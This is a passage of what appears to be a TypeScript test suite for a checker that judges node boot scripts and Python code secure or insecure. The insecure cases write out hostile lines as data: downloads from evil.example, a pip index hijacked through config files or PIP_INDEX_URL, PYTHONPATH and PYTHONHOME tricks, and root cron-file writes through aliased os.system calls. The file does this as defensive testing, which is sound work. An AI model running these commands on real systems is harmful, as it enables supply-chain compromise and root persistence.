                "ExecStart=/usr/bin/python3 /opt/ops/tune.py",
            ]),
        ]),
        REFUSED,
    ),
    // ===== pip trust: configuration files pip reads =====
    // Held: pip's site configuration is sys.prefix/pip.conf (CPython sys.prefix is /usr for AL2023's python3; pip docs "Configuration" site level): a downloaded /usr/pip.conf may name any index, so srvx is unknown root code. Refused (the pip run with an unread configuration is taken to change the library tree).
    dev(
        "user data: curl -o /usr/pip.conf (pip's site file, sys.prefix/pip.conf); pip3 install srvx",
        pipRun("dev-py78-pip-conf-sys-prefix-nodes", [
            "curl -fsSLo /usr/pip.conf https://evil.example/pip.conf",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Held: pip docs "Configuration" (index-url in a configuration file is --index-url): a written pip.conf withdraws trust in srvx.
    dev(
        "user data: heredoc /usr/pip.conf (index-url EVIL); pip3 install srvx",
        pipRun("dev-py78-pip-conf-usr-heredoc-nodes", [
            ...heredocFile("/usr/pip.conf", ["[global]", `index-url = ${EVIL}`]),
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PIP-CONFIG-DIRS) insecure accepted, got []. pip docs "Configuration", Unix Global: "In a \"pip\" subdirectory of any of the paths set in the environment variable XDG_CONFIG_DIRS (if it exists), for example /etc/xdg/pip/pip.conf": the tarball's pip/pip.conf under /opt/cfg may set index-url, so srvx comes from anywhere and tune.py runs it as root. The pack: configuredWords (rootReads.ts) reads fixed defaults (/etc/pip.conf, /etc/xdg/pip/pip.conf, /root/...), and pythonPipInstalled withdraws trust only for PIP_/UV_ variables. Fix: read XDG_CONFIG_DIRS/XDG_CONFIG_HOME/HOME as pip does (each dir's pip/pip.conf), or withdraw all pip trust when any of them is set.
    dev(
        "user data: export XDG_CONFIG_DIRS=/opt/cfg; tar of a download into /opt/cfg; pip3 install srvx",
        pipRun("dev-py78-pip-xdg-config-dirs-nodes", [
            "export XDG_CONFIG_DIRS=/opt/cfg",
            ...untar("/opt/cfg"),
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Held: pip docs "Configuration", User: $HOME/.config/pip/pip.conf: with HOME moved the downloaded file is pip's user configuration (any index).
    dev(
        "user data: export HOME=/var/lib/ops; curl -o ~/.config/pip/pip.conf; pip3 install srvx",
        pipRun("dev-py78-pip-home-moved-nodes", [
            "export HOME=/var/lib/ops",
            "mkdir -p /var/lib/ops/.config/pip",
            "curl -fsSLo /var/lib/ops/.config/pip/pip.conf https://evil.example/pip.conf",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -a" and pip docs "Configuration" ("pip's command line options can be set with environment variables": PIP_INDEX_URL): the sourced printf output exports PIP_INDEX_URL, srvx comes from another index and runs as root. The pack: scriptPipModules' round-77 word scan looks for a literal `PIP_` in user data (here `%s_INDEX_URL` and `PIP` apart), shellSetsComputedName reads assignments on the lines, not a sourced file's text, and view.environment holds no PIP_ key. Fix: as the printf PYTHONPATH case (source printf's computed text; a sourced file of unknown text withdraws all pip trust).
    dev(
        "user data: printf '%s_INDEX_URL=%s' PIP EVIL > env; set -a; . env; pip3 install srvx",
        pipRun("dev-py78-pip-set-a-printf-nodes", [
            "mkdir -p /etc/ops",
            `printf '%s_INDEX_URL=%s\\n' PIP ${EVIL} > /etc/ops/pip.env`,
            "set -a",
            ". /etc/ops/pip.env",
            "set +a",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Held: bash(1) "source" runs the downloaded file in the current shell: its PIP_* variables are unknown; refused as a program made at boot.
    dev(
        "user data: curl -o /etc/ops/pip.env (downloaded); set -a; . it; pip3 install srvx",
        pipRun("dev-py78-pip-set-a-downloaded-nodes", [
            "mkdir -p /etc/ops",
            "curl -fsSLo /etc/ops/pip.env https://evil.example/pip.env",
            "set -a",
            ". /etc/ops/pip.env",
            "set +a",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // ===== depth: neighbours of the misses above =====
    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. setuptools.sandbox.run_setup(setup_script, args) ("Run a distutils setup script, sandboxed in its directory", setuptools 59 on AL2023) executes setup.py, here the tarball's, as root. The literal-path twin is refused only because the round-77 rule takes its absolute argument for a write of a changed file; with a relative path after os.chdir nothing is judged (setuptools is a PYTHON_KNOWN_PACKAGES module, sandbox not dynamic). Fix: setuptools.sandbox (and distutils.core.run_setup) in PYTHON_DYNAMIC_NAMES, as the walk_packages case.
    dev(
        "tune.py: os.chdir(tarball dir); setuptools.sandbox.run_setup('setup.py', ['build']) (a relative setup.py)",
        tune(
            "dev-py78-setuptools-run-setup-rel-nodes",
            [
                "import os, setuptools.sandbox",
                'os.chdir("/var/cache/ops/src")',
                'setuptools.sandbox.run_setup("setup.py", ["build"])',
            ],
            untar("/var/cache/ops/src"),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. Python docs "zipimport": zipimporter(archivepath) "Create a new zipimporter instance", load_module(fullname) "Load the module specified by fullname": the downloaded zip's module runs as root. The literal twin is refused only by the round-77 write rule ("writes /var/cache/ops/p.zip"); through a name it is accepted: zipimport is no PYTHON_DYNAMIC_NAMES module. Fix: zipimport in PYTHON_DYNAMIC_NAMES (read only when its archive is one user data wrote and the pack reads).
    dev(
        "tune.py: z = '/var/cache/ops/p.zip'; zipimport.zipimporter(z).load_module('p') (a downloaded zip)",
        tune(
            "dev-py78-zipimporter-name-nodes",
            ["import zipimport", 'z = "/var/cache/ops/p.zip"', 'zipimport.zipimporter(z).load_module("p").main()'],
            ["curl -fsSLo /var/cache/ops/p.zip https://evil.example/p.zip"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-RUNNER-ALIAS) insecure accepted, got []. Python reference "The import statement" (`from shutil import os as o` binds shutil's attribute os, the os module): o.system is os.system. Same place and fix as the shutil.os case (pythonResolve gives shutil.os.system).
    dev(
        "tune.py: from shutil import os as o; o.system('echo cron line > /etc/cron.d/ops')",
        tune("dev-py78-from-shutil-import-os-nodes", [
            "from shutil import os as o",
            `o.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. prometheus_client's write_to_textfile(path, registry) writes path (the round-77 test case's own citation): through a module constant it is /etc/cron.d/ops. Same place (literal-only test in the round-77 loop) and fix as the numpy name case.
    dev(
        "tune.py: prometheus_client.write_to_textfile(OUT, registry) with OUT a module constant for /etc/cron.d/ops",
        tune("dev-py78-prom-textfile-name-nodes", [
            "import prometheus_client",
            'OUT = "/etc/cron.d/ops"',
            "prometheus_client.write_to_textfile(OUT, prometheus_client.REGISTRY)",
        ]),
        REFUSED,
    ),
    // Held: as the heredoc set -a case, the env file written by echo (its text read literally): PYTHONPATH puts the tarball's json.py before the standard library.
    dev(
        "user data: echo PYTHONPATH=/var/cache/ops/lib > env; set -a; . env; json.py from a tarball there; tune.py imports json",
        tune(
            "dev-py78-set-a-echo-pythonpath-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                "mkdir -p /etc/ops",
                "echo PYTHONPATH=/var/cache/ops/lib > /etc/ops/py.env",
                ...untar("/var/cache/ops/lib"),
                "set -a",
                ". /etc/ops/py.env",
                "set +a",
            ],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -o allexport" (same as -a) and pip docs "Configuration" environment variables: as the set -a printf case; same place and fix.
    dev(
        "user data: set -o allexport; source a printf-written env (PIP + _INDEX_URL); pip3 install srvx",
        pipRun("dev-py78-pip-allexport-printf-nodes", [
            "mkdir -p /etc/ops",
            `printf '%s%s=%s\\n' PIP _INDEX_URL ${EVIL} > /etc/ops/pip.env`,
            "set -o allexport",
            "source /etc/ops/pip.env",
            "set +o allexport",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Held: timeout(1) and nice(1) run their command unchanged: tune.py writes /etc/cron.d/ops (crontab(5)).
    dev(
        "user data: timeout 300 nice -n 10 python3 /opt/ops/tune.py (tune.py writes the cron line)",
        devNodeScript("dev-py78-wrapped-python-cron-nodes", [
            ...heredocFile("/opt/ops/tune.py", [`open("/etc/cron.d/ops", "w").write("${CRON_LINE}\\n")`]),
            "timeout 300 nice -n 10 python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: ionice(1)/stdbuf(1) run python3 -c unchanged; NumPy "savetxt" writes the cron line into /etc/cron.d/ops (python -c code is judged by the paths it names literally).
    dev(
        "user data: ionice -c 3 stdbuf -oL python3 -c 'import numpy; p=...; numpy.savetxt(p, [cron line])'",
        devNodeScript("dev-py78-wrapped-python-c-savetxt-nodes", [
            `ionice -c 3 stdbuf -oL python3 -c 'import numpy; p = "/etc/cron.d/ops"; numpy.savetxt(p, ["${CRON_LINE}"], fmt="%s")'`,
        ]),
        REFUSED,
    ),
    // ===== round 78 fixes: neighbours (fix78) =====
    // PY-WRITE-NONLITERAL: NumPy docs "numpy.savetxt(fname, ...)" given a function's parameter: the pack cannot follow what
    // the caller passes (here /etc/cron.d/ops, crontab(5)), so an unreviewed library's path argument fails closed.
    dev(
        "tune.py: def save(p): numpy.savetxt(p, rows); save('/etc/cron.d/ops') (the path a parameter)",
        tune("dev-py78-numpy-savetxt-param-fix78-nodes", [
            "import numpy",
            "def save(p):",
            `    numpy.savetxt(p, ["${CRON_LINE}"], fmt="%s")`,
            'save("/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // PY-WRITE-NONLITERAL: Python docs "printf-style String Formatting" (`DIR % "ops"` is /etc/cron.d/ops) and
    // prometheus_client's write_to_textfile(path, registry): a root cron file (crontab(5)).
    dev(
        "tune.py: prometheus_client.write_to_textfile(PATTERN % 'ops', registry) (a formatted path)",
        tune("dev-py78-prom-textfile-format-fix78-nodes", [
            "import prometheus_client",
            'PATTERN = "/etc/cron.d/%s"',
            "registry = prometheus_client.CollectorRegistry()",
            'prometheus_client.write_to_textfile(PATTERN % "ops", registry)',
        ]),
        REFUSED,
    ),
    // PY-WRITE-METHOD: boto3 docs "S3.Object.download_file(Filename, ...)" ("The path to the file to download to"): a
    // systemd unit root loads (systemd.unit(5): /etc/systemd/system).
    dev(
        "tune.py: boto3.resource('s3').Object(b, k).download_file('/etc/systemd/system/ops.service')",
        tune("dev-py78-boto3-object-download-fix78-nodes", [
            "import boto3",
            'boto3.resource("s3").Object("ops-artifacts", "ops.service").download_file("/etc/systemd/system/ops.service")',
        ]),
        REFUSED,
    ),
    // PY-WRITE-METHOD: Python docs "urllib.request" FancyURLopener (a URLopener) retrieve(url, filename): the name a
    // module constant for /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: urllib.request.FancyURLopener().retrieve(url, TARGET) with TARGET /etc/cron.d/ops",
        tune("dev-py78-fancyurlopener-retrieve-fix78-nodes", [
            "import urllib.request",
            'TARGET = "/etc/cron.d/ops"',
            "opener = urllib.request.FancyURLopener()",
            'opener.retrieve("https://ops.example/cron", filename=TARGET)',
        ]),
        REFUSED,
    ),
    // PY-RUNNER-ALIAS: CPython Lib/posixpath.py `import os`: os.path.os is os, so os.path.os.system is os.system
    // ("Execute the command (a string) in a subshell"): root writes the cron line into /etc/cron.d/ops.
    dev(
        "tune.py: os.path.os.system('echo cron line > /etc/cron.d/ops') (os reached through os.path)",
        tune("dev-py78-ospath-os-system-fix78-nodes", [
            "import os.path",
            `os.path.os.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
        ]),
        REFUSED,
    ),
    // PY-RUNNER-ALIAS: CPython Lib/random.py `import os as _os`: random._os.popen is os.popen ("Open a pipe to or from
    // command cmd", a shell line).
    dev(
        "tune.py: random._os.popen('echo cron line > /etc/cron.d/ops') (random's private os)",
        tune("dev-py78-random-os-popen-fix78-nodes", [
            "import random",
            `random._os.popen("echo '${CRON_LINE}' > /etc/cron.d/ops").read()`,
        ]),
        REFUSED,
    ),
    // CODE-LOAD: Python docs "doctest" command line (`python -m doctest FILE`: the file's examples are run as Python
    // code): a downloaded file's examples run as root.
    dev(
        "user data: python3 -m doctest /var/cache/ops/checks.txt (downloaded)",
        devNodeScript("dev-py78-doctest-cli-fix78-nodes", [
            "mkdir -p /var/cache/ops",
            "curl -fsSLo /var/cache/ops/checks.txt https://evil.example/checks.txt",
            "python3 -m doctest /var/cache/ops/checks.txt",
        ]),
        REFUSED,
    ),
    // CODE-LOAD: Python docs "unittest" main(module='__main__', ..., argv=None, ...) parses argv as the command line:
    // `discover -s DIR` imports the tarball's test*.py as root.
    dev(
        "tune.py: unittest.main(argv=['x', 'discover', '-s', tarball dir])",
        tune(
            "dev-py78-unittest-main-argv-fix78-nodes",
            ["import unittest", 'unittest.main(argv=["x", "discover", "-s", "/var/cache/ops/checks"])'],
            untar("/var/cache/ops/checks"),
        ),
        REFUSED,
    ),
    // UNREVIEWED-READ twin: NumPy docs "numpy.load" mmap_mode 'r+' ("Open existing file for reading and writing") maps a
    // sysctl.d file (sysctl.d(5), applied at boot) writable: still judged as a write.
    dev(
        "tune.py: numpy.load('/etc/sysctl.d/99-ops.conf', mmap_mode='r+') (a writable map)",
        tune("dev-py78-numpy-load-rplus-fix78-nodes", [
            "import numpy",
            'a = numpy.load("/etc/sysctl.d/99-ops.conf", mmap_mode="r+")',
            "a[0] = 1",
        ]),
        REFUSED,
    ),
    // ===== round 78 fixes: pip and env neighbours (fix78-pip) =====
    // Insecure: pip docs "pip install" (a wheel by URL: "pip install https://.../SomePackage-1.0-py2.py3-none-any.whl") run from Python (subprocess): its .pth lines run in every later Python start (Python docs "site").
    dev(
        "tune.py: subprocess.check_call(['pip3', 'install', URL of a wheel]); serve.py later imports json only",
        tune(
            "dev-py78-pip-subprocess-url-fix78",
            [
                "import subprocess",
                'subprocess.check_call(["pip3", "install", "https://evil.example/srvx-1.0-py3-none-any.whl"])',
            ],
            [],
            [...heredocFile("/opt/ops/serve.py", ["import json", "print(json.dumps(1))"]), "python3 /opt/ops/serve.py"],
        ),
        REFUSED,
    ),
    // Insecure: printf(1) writes PYTHONHOME=DIR, `set -a` exports it when sourced (bash(1) "set"); Python docs "PYTHONHOME" ("Change the location of the standard Python libraries"): the tarball is the standard library root runs.
    dev(
        "user data: printf 'PYTHONHOME=%s\\n' DIR > env; set -a; . env; tarball there; tune.py",
        tune(
            "dev-py78-set-a-printf-pythonhome-fix78",
            ["import json", "print(json.dumps(1))"],
            [
                "mkdir -p /etc/ops",
                "printf 'PYTHONHOME=%s\\n' /var/cache/ops/py > /etc/ops/py.env",
                ...untar("/var/cache/ops/py"),
                "set -a",
                ". /etc/ops/py.env",
                "set +a",
            ],
        ),
        REFUSED,
    ),
    // Insecure: pip docs "Configuration", User: "$XDG_CONFIG_HOME/pip/pip.conf" (the tarball's, any index): srvx is unknown root code.
    dev(
        "user data: export XDG_CONFIG_HOME=/opt/cfg; tar of a download into /opt/cfg; pip3 install srvx",
        pipRun("dev-py78-pip-xdg-config-home-fix78", [
            "export XDG_CONFIG_HOME=/opt/cfg",
            ...untar("/opt/cfg"),
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Insecure: env(1) removes PIP_NO_INPUT but sets PIP_INDEX_URL (an assignment operand of env: "Set each NAME to VALUE in the environment"): srvx from another index.
    dev(
        "user data: env -u PIP_NO_INPUT PIP_INDEX_URL=EVIL pip3 install srvx",
        pipRun("dev-py78-pip-env-unset-and-set-fix78", [`env -u PIP_NO_INPUT PIP_INDEX_URL=${EVIL} pip3 install srvx`]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // Secure: boto3 "download_file" Filename is the program's cache (FHS 3.0 /var/cache "Application cache data"): nothing root reads as configuration or code.
    dev(
        "tune.py: boto3 client download_file(bucket, key, '/var/cache/ops/model.bin') (a cache of its own)",
        tune("dev-py78-boto3-download-cache-nodes", [
            "import boto3",
            'boto3.client("s3").download_file("ops-artifacts", "model.bin", "/var/cache/ops/model.bin")',
        ]),
    ),
    // Secure: NumPy "savetxt" into the program's own log (FHS /var/log) through a name: no reader takes it as code.
    dev(
        "tune.py: p = '/var/log/ops/stats.csv'; numpy.savetxt(p, data)",
        tune("dev-py78-numpy-savetxt-name-log-nodes", [
            "import numpy",
            'p = "/var/log/ops/stats.csv"',
            "numpy.savetxt(p, [1, 2, 3])",
        ]),
    ),
    // Secure: Python docs "urlretrieve(url, filename)" into /var/cache, then read with json.load (data, no code).
    dev(
        "tune.py: urllib.request.urlretrieve(url, '/var/cache/ops/data.json') (a cache, read as data)",
        tune("dev-py78-urlretrieve-cache-nodes", [
            "import json, urllib.request",
            'urllib.request.urlretrieve("https://ops.example/data.json", "/var/cache/ops/data.json")',
            'print(json.load(open("/var/cache/ops/data.json")))',
        ]),
    ),
    // Secure: Python docs "tarfile" filter='data' ("Refuse to extract files with absolute paths ... outside the destination", links too) into a cache directory nothing runs.
    dev(
        "tune.py: tarfile.open(downloaded).extractall('/var/cache/ops/x', filter='data')",
        tune(
            "dev-py78-tar-data-cache-nodes",
            ["import tarfile", 'tarfile.open("/var/cache/ops/c.tgz").extractall("/var/cache/ops/x", filter="data")'],
            ["curl -fsSLo /var/cache/ops/c.tgz https://evil.example/c.tgz"],
        ),
    ),
    // Secure: Python docs "sqlite3.connect" creates the database (and its journal files) under /var/lib/ops, the program's state (FHS /var/lib).
    dev(
        "tune.py: sqlite3.connect('/var/lib/ops/state.db') with a literal CREATE TABLE",
        tune("dev-py78-sqlite-state-nodes", [
            "import sqlite3",
            'db = sqlite3.connect("/var/lib/ops/state.db")',
            'db.execute("CREATE TABLE IF NOT EXISTS runs (at TEXT)")',
            "db.commit()",
        ]),
    ),
    // Secure: Python docs "logging.FileHandler" appends to /var/log/ops/tune.log, a log of its own.
    dev(
        "tune.py: logging.FileHandler('/var/log/ops/tune.log')",
        tune("dev-py78-filehandler-log-nodes", [
            "import logging",
            'logging.getLogger().addHandler(logging.FileHandler("/var/log/ops/tune.log"))',
            'logging.warning("tuned")',
        ]),
    ),
    // Secure: configparser.write and json.dump into files open() made under /var/lib/ops (the program's state).
    dev(
        "tune.py: configparser write and json.dump to files under /var/lib/ops",
        tune("dev-py78-configparser-json-state-nodes", [
            "import configparser, json",
            "c = configparser.ConfigParser()",
            'c["run"] = {"ok": "1"}',
            'with open("/var/lib/ops/state.ini", "w") as f:',
            "    c.write(f)",
            'with open("/var/lib/ops/state.json", "w") as f:',
            '    json.dump({"ok": 1}, f)',
        ]),
    ),
    // Secure: Python docs "os.open" with O_WRONLY|O_CREAT|O_APPEND on its own log, then os.write to that descriptor.
    dev(
        "tune.py: os.open('/var/log/ops/t.log', O_WRONLY|O_CREAT|O_APPEND); os.write",
        tune("dev-py78-os-open-log-nodes", [
            "import os",
            'fd = os.open("/var/log/ops/t.log", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o640)',
            'os.write(fd, b"ok\\n")',
            "os.close(fd)",
        ]),
    ),
    // Secure: Python docs "os.replace(src, dst)" (atomic rename) within /var/lib/ops, its own state.
    dev(
        "tune.py: write /var/lib/ops/s.json.tmp then os.replace onto /var/lib/ops/s.json (atomic update)",
        tune("dev-py78-os-replace-state-nodes", [
            "import os",
            'open("/var/lib/ops/s.json.tmp", "w").write("{}")',
            'os.replace("/var/lib/ops/s.json.tmp", "/var/lib/ops/s.json")',
        ]),
    ),
    // Secure: Python docs "Path.symlink_to(target)": a link in /var/cache/ops to a directory in /var/cache/ops (symlink(7)); writes through it stay in the cache.
    dev(
        "tune.py: Path('/var/cache/ops/current').symlink_to('/var/cache/ops/v1')",
        tune("dev-py78-symlink-cache-nodes", [
            "from pathlib import Path",
            'Path("/var/cache/ops/v1").mkdir(exist_ok=True)',
            'Path("/var/cache/ops/current").symlink_to("/var/cache/ops/v1")',
        ]),
    ),
    // Secure: Python docs "PYTHONSTARTUP": "the Python commands in that file are executed before the first prompt is displayed in interactive mode": a script run never reads it.
    dev(
        "user data: PYTHONSTARTUP=/var/cache/ops/x.py python3 /opt/ops/tune.py (not interactive: never read)",
        devNodeScript("dev-py78-pythonstartup-script-nodes", [
            "mkdir -p /var/cache/ops",
            "curl -fsSLo /var/cache/ops/x.py https://evil.example/x.py",
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "PYTHONSTARTUP=/var/cache/ops/x.py python3 /opt/ops/tune.py",
        ]),
    ),
    // Secure: bash(1) "set -a" exports OPS_LEVEL only, no variable pip reads (pip docs "Configuration": PIP_*); tenacity from the default index (DECIDED round 74).
    dev(
        "user data: set -a; . /etc/ops/ops.env (OPS_LEVEL=3 only); pip3 install tenacity",
        tenacity("dev-py78-set-a-plain-env-nodes", [
            ...heredocFile("/etc/ops/ops.env", ["OPS_LEVEL=3"]),
            "set -a",
            ". /etc/ops/ops.env",
            "set +a",
            "pip3 install tenacity",
        ]),
    ),
    // Secure: Python docs "pkgutil.iter_modules" yields ModuleInfo for the modules found, importing none (unlike walk_packages).
    dev(
        "tune.py: pkgutil.iter_modules(['/var/cache/ops/plugins']) (lists names, imports none)",
        tune(
            "dev-py78-pkgutil-iter-nodes",
            ["import pkgutil", 'for m in pkgutil.iter_modules(["/var/cache/ops/plugins"]):', "    print(m.name)"],
            untar("/var/cache/ops/plugins"),
        ),
    ),
    // Secure: logger(1) sends one message to syslog; subprocess.run with an argv list runs no shell.
    dev(
        "tune.py: subprocess.run(['logger', '-t', 'ops', 'tuned']) (a harmless command)",
        tune("dev-py78-subprocess-logger-nodes", [
            "import subprocess",
            'subprocess.run(["logger", "-t", "ops", "tuned"], check=True)',
        ]),
    ),
    // ===== more twins =====
    // Secure: Python docs "zipfile" ZipFile.extract: absolute member names have their slashes stripped and ".." components removed, no links: members stay in /var/lib/ops/data, which nothing runs.
    dev(
        "tune.py: zipfile.ZipFile(downloaded zip).extractall('/var/lib/ops/data') (zip members stay inside)",
        tune(
            "dev-py78-zip-extract-state-nodes",
            ["import zipfile", 'zipfile.ZipFile("/var/cache/ops/d.zip").extractall("/var/lib/ops/data")'],
            ["curl -fsSLo /var/cache/ops/d.zip https://evil.example/d.zip"],
        ),
    ),
    // Was a MISS (fixed in round 78): (PIP-MENTION, secure refused) a bash comment runs nothing (bash(1) "COMMENTS": a word beginning with # "causes that word and all remaining characters on that line to be ignored"), so pip installs tenacity from the default index (DECIDED round 74: trusted). The pack refuses "imports tenacity, a module user data did not write": scriptPipModules' round-77 scan `(?<![\w$])(?:PIP|UV)_` runs over the raw texts, comments included. Fix: scan shellCommandLines' words (comments cut), as the install lines themselves are read.
    dev(
        "user data: a comment naming PIP_INDEX_URL; pip3 install tenacity (the default index)",
        tenacity("dev-py78-pip-comment-mention-nodes", [
            "# default index only: do not set PIP_INDEX_URL on these nodes",
            "pip3 install tenacity",
        ]),
    ),
    // Was a MISS (fixed in round 78): (PIP-MENTION, secure refused) env(1) "-u, --unset=NAME: remove variable from the environment": pip runs with no PIP_INDEX_URL at all, the default index (pip docs "Configuration"). The pack refuses tenacity as unread: the PIP_ word scan withdraws all trust on any mention. Fix: a name only removed (env -u NAME, unset NAME, env -i) withdraws nothing; or scan only words that may set a variable.
    dev(
        "user data: env -u PIP_INDEX_URL pip3 install tenacity (the variable removed)",
        tenacity("dev-py78-pip-env-unset-nodes", ["env -u PIP_INDEX_URL pip3 install tenacity"]),
    ),
    // Secure: Python docs "PYTHONDONTWRITEBYTECODE": "Python won't try to write .pyc files" (loads nothing).
    dev(
        "user data: PYTHONDONTWRITEBYTECODE=1 python3 /opt/ops/tune.py",
        devNodeScript("dev-py78-dontwritebytecode-nodes", [
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "PYTHONDONTWRITEBYTECODE=1 python3 /opt/ops/tune.py",
        ]),
    ),
    // Secure: Python docs "-I": isolated mode, "All PYTHON* environment variables are ignored" (implies -E, -s): the tarball on PYTHONPATH is never on sys.path.
    dev(
        "user data: PYTHONPATH=tarball dir python3 -I /opt/ops/tune.py (isolated mode ignores PYTHON* variables)",
        devNodeScript("dev-py78-isolated-pythonpath-nodes", [
            "mkdir -p /var/cache/ops",
            ...untar("/var/cache/ops/lib"),
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "PYTHONPATH=/var/cache/ops/lib python3 -I /opt/ops/tune.py",
        ]),
    ),
    // Secure: Python docs "-E": "Ignore all PYTHON* environment variables, e.g. PYTHONPATH and PYTHONHOME": the sourced PYTHONPATH is not read (twin of the refused set -a case).
    dev(
        "user data: set -a; . env (PYTHONPATH=tarball dir); python3 -E /opt/ops/tune.py (-E ignores it)",
        devNodeScript("dev-py78-set-a-pythonpath-e-nodes", [
            "mkdir -p /var/cache/ops",
            ...heredocFile("/etc/ops/py.env", ["PYTHONPATH=/var/cache/ops/lib"]),
            ...untar("/var/cache/ops/lib"),
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "set -a",
            ". /etc/ops/py.env",
            "set +a",
            "python3 -E /opt/ops/tune.py",
        ]),
    ),
    // Secure: Python docs "logging.handlers.SysLogHandler(address=...)": a string address is a Unix domain socket it sends to, no file it writes.
    dev(
        "tune.py: logging.handlers.SysLogHandler(address='/dev/log') (a socket, no file)",
        tune("dev-py78-syslog-handler-nodes", [
            "import logging, logging.handlers",
            'logging.getLogger().addHandler(logging.handlers.SysLogHandler(address="/dev/log"))',
            'logging.warning("tuned")',
        ]),
    ),
    // Secure: Python docs "shutil.copy(src, dst)" writes dst, the program's state under /var/lib/ops; src is read.
    dev(
        "tune.py: shutil.copy('/etc/ops/app.conf', '/var/lib/ops/app.conf') (its config into its state)",
        tune(
            "dev-py78-shutil-copy-state-nodes",
            ["import shutil", 'shutil.copy("/etc/ops/app.conf", "/var/lib/ops/app.conf")'],
            heredocFile("/etc/ops/app.conf", ["level = 3"]),
        ),
    ),
    // Secure: boto3 "S3.Client.upload_file(Filename, Bucket, Key)" reads the local file and writes nothing on the node.
    dev(
        "tune.py: boto3 upload_file('/var/log/ops/t.log', bucket, key) (reads its own log)",
        tune("dev-py78-boto3-upload-log-nodes", [
            "import boto3",
            'boto3.client("s3").upload_file("/var/log/ops/t.log", "ops-logs", "node/t.log")',
        ]),
    ),
    // Was a MISS (fixed in round 78): (UNREVIEWED-READ, secure refused) NumPy docs "numpy.loadtxt(fname, ...)": "Load data from a text file" (a read; the file is user data's own /etc/ops/thresholds.csv). The pack refuses "numpy.loadtxt(...): it writes /etc/ops/thresholds.csv": the round-77 rule judges any absolute literal given to an unreviewed module function as a write. Fix: review numpy's readers (loadtxt, genfromtxt, fromfile, fromregex, load without allow_pickle, memmap mode 'r') into PYTHON_NO_FILE_WRITE_CALLS, as os.path and glob are.
    dev(
        "tune.py: numpy.loadtxt('/etc/ops/thresholds.csv') (reads a file user data wrote)",
        tune(
            "dev-py78-numpy-loadtxt-etc-nodes",
            ["import numpy", 'print(numpy.loadtxt("/etc/ops/thresholds.csv", delimiter=","))'],
            heredocFile("/etc/ops/thresholds.csv", ["1,2,3"]),
        ),
        undefined,
    ),
    // Secure: timeout(1)/nice(1) run tune.py unchanged; it appends to its own log.
    dev(
        "user data: timeout 300 nice -n 10 python3 /opt/ops/tune.py (tune.py writes its own log)",
        devNodeScript("dev-py78-wrapped-python-log-nodes", [
            "mkdir -p /var/log/ops",
            ...heredocFile("/opt/ops/tune.py", ['open("/var/log/ops/t.log", "a").write("ok\\n")']),
            "timeout 300 nice -n 10 python3 /opt/ops/tune.py",
        ]),
    ),
    // ===== round 78 fixes: secure neighbours (fix78) =====
    // Secure: NumPy "savetxt" to os.path.join('/var/log/ops', ...) (FHS /var/log) of an array numpy made: computed, a
    // log of its own.
    dev(
        "tune.py: numpy.savetxt(os.path.join('/var/log/ops', 'stats.csv'), numpy.arange(3))",
        tune("dev-py78-numpy-savetxt-join-log-fix78-nodes", [
            "import numpy, os",
            "data = numpy.arange(3)",
            'numpy.savetxt(os.path.join("/var/log/ops", "stats.csv"), data)',
        ]),
    ),
    // Secure: prometheus_client write_to_textfile into /var/lib/ops (its state, FHS /var/lib) through an f-string of a
    // constant, the registry the library's own object.
    dev(
        "tune.py: prometheus_client.write_to_textfile(f'/var/lib/ops/{NAME}.prom', prometheus_client.REGISTRY)",
        tune("dev-py78-prom-textfile-state-fix78-nodes", [
            "import prometheus_client",
            'NAME = "tune"',
            'prometheus_client.write_to_textfile(f"/var/lib/ops/{NAME}.prom", prometheus_client.REGISTRY)',
        ]),
    ),
    // Secure: boto3 "S3.Bucket.download_file(Key, Filename)" into /var/cache/ops (FHS "Application cache data").
    dev(
        "tune.py: boto3 Bucket(b).download_file(key, os.path.join('/var/cache/ops', 'model.bin'))",
        tune("dev-py78-boto3-bucket-cache-fix78-nodes", [
            "import boto3, os",
            'bucket = boto3.resource("s3").Bucket("ops-artifacts")',
            'bucket.download_file("model.bin", os.path.join("/var/cache/ops", "model.bin"))',
        ]),
    ),
    // Secure: CPython Lib/shutil.py `import os`: shutil.os.cpu_count is os.cpu_count ("Return the number of CPUs"): no
    // command.
    dev(
        "tune.py: print(shutil.os.cpu_count()) (os through shutil, no runner)",
        tune("dev-py78-shutil-os-cpu-fix78-nodes", ["import shutil", "print(shutil.os.cpu_count())"]),
    ),
    // Secure: Python docs "unittest": TestCase, TestSuite and TextTestRunner run the file's own test methods (no loader
    // imports a module).
    dev(
        "tune.py: unittest.TextTestRunner().run(unittest.TestSuite([T('test_ok')])) of its own TestCase",
        tune("dev-py78-unittest-own-case-fix78-nodes", [
            "import unittest",
            "class T(unittest.TestCase):",
            "    def test_ok(self):",
            "        self.assertTrue(True)",
